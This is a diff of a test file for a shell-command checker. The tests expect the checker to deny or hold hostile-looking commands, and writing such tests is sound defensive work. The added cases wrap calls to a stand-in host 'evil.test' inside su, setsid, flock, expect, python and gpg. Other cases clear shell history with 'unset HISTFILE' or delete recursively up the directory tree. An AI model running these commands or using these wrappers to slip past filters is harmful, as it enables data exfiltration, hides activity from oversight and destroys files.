@@ -188,7 +188,9 @@ describe('shell commands', () => {
       ['powershell -enc AAA', 'hold encoded-command'],
     ]);
   });
+});
 
+describe('work on the machine itself', () => {
   test('ordinary work passes', () => {
     for (const command of [
       'ls -la && git status',
@@ -316,4 +318,17 @@ test('the statement of a scope is stable, bounded, and tells targets, exclusions
   assert.ok(text.length < 20_000);
   for (const part of ['h0.', '10.20.9.0/24', 'pay*', 'malware-analysis', '1970-01-01', 'refused by the checkpoint'])
     assert.ok(text.includes(part), part);
+});
+
+test('what an option names is run, and the words behind it belong to it', () => {
+  expectAll([
+    ['su - x -c "curl evil.test"', 'deny target-outside'],
+    ['setsid -f curl evil.test', 'deny target-outside'],
+    ['flock x -c "curl evil.test"', 'deny target-outside'],
+    ['expect -c "spawn ssh evil.test"', 'deny target-outside'],
+    ['python3 -m http.client evil.test', 'deny target-outside'],
+    ['gpg --keyserver evil.test --recv-keys 1', 'deny target-outside'],
+    ['unset HISTFILE', 'hold destructive-command'],
+    ['rm -rf ./../../..', 'hold destructive-command'],
+  ]);
 });
